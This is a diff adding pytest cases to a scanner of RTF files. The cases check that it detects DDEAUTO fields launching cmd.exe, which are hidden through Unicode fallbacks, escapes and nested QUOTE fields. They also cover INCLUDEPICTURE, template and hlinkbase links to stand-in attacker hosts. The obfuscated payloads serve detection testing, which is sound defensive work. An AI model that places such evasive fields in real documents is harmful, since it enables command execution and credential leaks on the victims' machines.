@@ -186,3 +186,73 @@ def test_local_templates_links_and_escaped_text_pass(policy: Policy, rtf: bytes)
 
     item = Item("letter.rtf", rtf, FileType("rtf", "text/rtf", "text", True))
     assert RtfEngine().scan(item, policy.context()).findings == []
+
+
+# -- red team 100: \ucN fallbacks counted as the specification counts them; computed types -------
+
+DDEAUTO_CMD = rb'DEAUTO c:\\windows\\system32\\cmd.exe "/c calc"'
+
+
+def field(instruction: bytes) -> bytes:
+    return rb"{\rtf1\ansi{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}\par}"
+
+
+@pytest.mark.parametrize(
+    ("rtf", "code"),
+    [
+        # the fallback of \u68 is the control word (RTF 1.9.1: one character), not the "D" after
+        (field(rb"\uc1\u68\lang1033 " + DDEAUTO_CMD), "DDE"),
+        (field(rb"\uc1\u68\'44" + DDEAUTO_CMD), "DDE"),
+        (field(rb"\uc2\u68\f0\b D" + DDEAUTO_CMD[1:]), "DDE"),
+        (field(rb"\uc1\u68\u68" + DDEAUTO_CMD), "DDE"),  # a \uN is a control word too
+        (field(rb"\uc1\u68\bin1 ?" + DDEAUTO_CMD), "DDE"),  # \bin with its data: one
+        # a brace ends the fallback: "{DEAUTO" keeps its D
+        (field(rb"\uc1\u68{" + DDEAUTO_CMD + b"}"), "DDE"),
+        (field(rb'\uc1\u73\f0 NCLUDEPICTURE "http://attacker.example/p.png" \\d'), "EXTERNAL_LINK"),
+        (rb"{\rtf1{\*\template \uc1\u92\f0 \\attacker-host\\s\\t.dotm} Hi\par}", "EXTERNAL_LINK"),
+        (rb"{\rtf1{\*\hlinkbase \uc1\u92\f0 \\attacker-host\\share} Hi\par}", "EXTERNAL_LINK"),
+    ],
+    ids=["control-word", "hex-escape", "two-words", "u-word", "bin", "open-brace",
+         "includepicture", "template", "hlinkbase"],
+)  # fmt: skip
+def test_unicode_fallbacks_are_counted_as_word_counts_them(
+    policy: Policy, rtf: bytes, code: str
+) -> None:
+    assert [f.code.name for f in scan(rtf, policy).findings] == [code]
+
+
+@pytest.mark.parametrize(
+    "rtf",
+    [
+        field(rb"\uc1\u80\f0 AGE"),  # PAGE: the control word is the fallback, no letter lost
+        field(rb"\uc1\u80?AGE"),
+        rb"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}} \uc1\u233\'e9 caf\u233?\par}",
+    ],
+)
+def test_honest_unicode_fallbacks_pass(policy: Policy, rtf: bytes) -> None:
+    assert scan(rtf, policy).findings == []
+
+
+QUOTED_DDE = rb"{\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt x}}"
+
+
+@pytest.mark.parametrize(
+    "lead",
+    [b"", b'"', rb"\\* ", rb"\\* MERGEFORMAT ", rb"\~", rb"\'a0", rb"\emspace "],
+    ids=["bare", "quoted", "switch", "switch-argument", "nbsp", "hex-nbsp", "emspace"],
+)
+def test_a_type_computed_by_a_nested_field_is_ambiguous(policy: Policy, lead: bytes) -> None:
+    # the type word holds the nested field however it is led, as the .docx reader reads it
+    closing = b'"' if lead == b'"' else b""
+    rtf = field(lead + QUOTED_DDE + closing + rb" c:\\windows\\system32\\cmd.exe")
+    [found] = scan(rtf, policy).findings
+    assert (found.code.name, found.message) == (
+        "AMBIGUOUS",
+        "field whose type is computed by a nested field in the RTF document",
+    )
+
+
+def test_a_nested_field_in_an_argument_is_no_computed_type(policy: Policy) -> None:
+    nested = rb"{\field{\*\fldinst MERGEFIELD Amount}{\fldrslt 1}}"
+    rtf = field(rb'IF "' + nested + rb'" = "1" "one" "many"')
+    assert scan(rtf, policy).findings == []
